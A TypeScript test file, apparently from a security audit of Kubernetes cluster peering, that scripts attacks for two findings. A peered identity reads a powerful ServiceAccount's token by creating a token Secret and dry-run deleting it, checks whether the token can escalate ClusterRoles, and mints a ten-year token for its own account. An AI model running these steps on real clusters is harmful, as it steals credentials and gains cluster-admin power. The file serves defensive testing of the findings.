// Findings 2 and 11: tokens that a source gets in a target with the identity that peering gave it.
import { eventually } from '../../support/history/eventually.ts';
import type { RawApiClient } from '../../support/attackers/raw-api-client.ts';
import { through, type Attack, type Outcome } from './attack.ts';
import type { Attacked } from './attacked.ts';
import { path } from './clusters.ts';
import { MIGHTY, own, refused } from './source.ts';

/** Ten years. */
const TEN_YEARS = 10 * 365 * 24 * 3_600;
const OF_SYSTEM = { namespace: 'kube-system', account: MIGHTY };

/** A ServiceAccount's token that the source wants, and how it has the API server show it. */
interface Wanted {
  readonly namespace: string;
  readonly account: string;
  readonly finalizers?: readonly string[];
  readonly query: string;
}

/** Has an API server fill in a ServiceAccount's token, and makes it show that as what it would delete. */
async function readToken(
  attacked: Attacked,
  name: string,
  { namespace, account, finalizers, query }: Wanted,
): Promise<Outcome> {
  const [target] = attacked.targets;
  const source = await attacked.sourceIn(target);
  const metadata = {
    name,
    labels: own(attacked),
    annotations: { 'kubernetes.io/service-account.name': account },
    ...(finalizers && { finalizers }),
  };
  const made = await source.call({
    method: 'POST',
    path: path('api/v1', 'secrets', namespace),
    body: { metadata, type: 'kubernetes.io/service-account-token' },
  });
  if (made.status !== 201) return refused(made);
  const where = path('api/v1', 'secrets', namespace, name);
  const token = await eventually(
    'a token is told',
    async () => {
      const { text } = await source.call({ method: 'DELETE', path: `${where}?${query}` });
      return (JSON.parse(text) as { readonly data?: { readonly token?: string } }).data?.token;
    },
    15_000,
  );
  const isMighty = await mayEscalate(attacked.caller(target, Buffer.from(token, 'base64').toString()));
  await target.admin.json({ method: 'PATCH', path: where, body: { metadata: { finalizers: null } } });
  await target.admin.json({ method: 'DELETE', path: where });
  return through(`its token; it ${isMighty ? 'may escalate ClusterRoles' : 'may do little'}`);
}

/** The same beside a strong account in a namespace that the source may use. */
async function readTokenOfUsers(attacked: Attacked): Promise<Outcome> {
  const [{ admin }] = attacked.targets;
  const namespace = 'with-strong-account';
  await attacked.namespace(namespace);
  const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
  const binding = {
    metadata: { name: namespace },
    roleRef,
    subjects: [{ kind: 'ServiceAccount', namespace, name: 'default' }],
  };
  await admin.json({ method: 'POST', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', body: binding });
  return readToken(attacked, 'found-3', {
    namespace,
    account: 'default',
    query: 'dryRun=All&propagationPolicy=Foreground',
  });
}

async function mayEscalate(client: RawApiClient): Promise<boolean> {
  const spec = {
    resourceAttributes: { verb: 'escalate', group: 'rbac.authorization.k8s.io', resource: 'clusterroles' },
  };
  const review = { method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', body: { spec } };
  return (await client.json<{ readonly status: { readonly allowed: boolean } }>(review)).status.allowed;
}

async function mintLongToken(attacked: Attacked): Promise<Outcome> {
  const [target] = attacked.targets;
  const source = await attacked.sourceIn(target);
  const { status } = await source.json<{ readonly status: { readonly userInfo: { readonly username: string } } }>({
    method: 'POST',
    path: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
    body: {},
  });
  const [, , namespace, name] = status.userInfo.username.split(':');
  const answer = await source.call({
    method: 'POST',
    path: path('api/v1', 'serviceaccounts', namespace, `${name}/token`),
    body: { spec: { expirationSeconds: TEN_YEARS } },
  });
  if (answer.status !== 201) return refused(answer);
  return through(`a token until ${/"expirationTimestamp":"([^"]*)"/.exec(answer.text)?.[1]}`);
}

/** These attacks. */
export const TOKEN_ATTACKS: readonly Attack[] = [
  {
    finding: 2,
    what: `a source makes a Secret for the token of ${MIGHTY} and deletes it with dryRun=All in the foreground`,
    make: (attacked) =>
      readToken(attacked, 'found-1', { ...OF_SYSTEM, query: 'dryRun=All&propagationPolicy=Foreground' }),
  },
  {
    finding: 2,
    what: 'the same with a finalizer and a plain dry run',
    make: (attacked) =>
      readToken(attacked, 'found-2', { ...OF_SYSTEM, finalizers: ['example.com/stay'], query: 'dryRun=All' }),
  },
  {
    finding: 2,
    what: 'the same for a strong account of users, in a namespace that the source may use',
    make: readTokenOfUsers,
  },
  { finding: 11, what: 'a source asks for a token of its own account for ten years', make: mintLongToken },
];
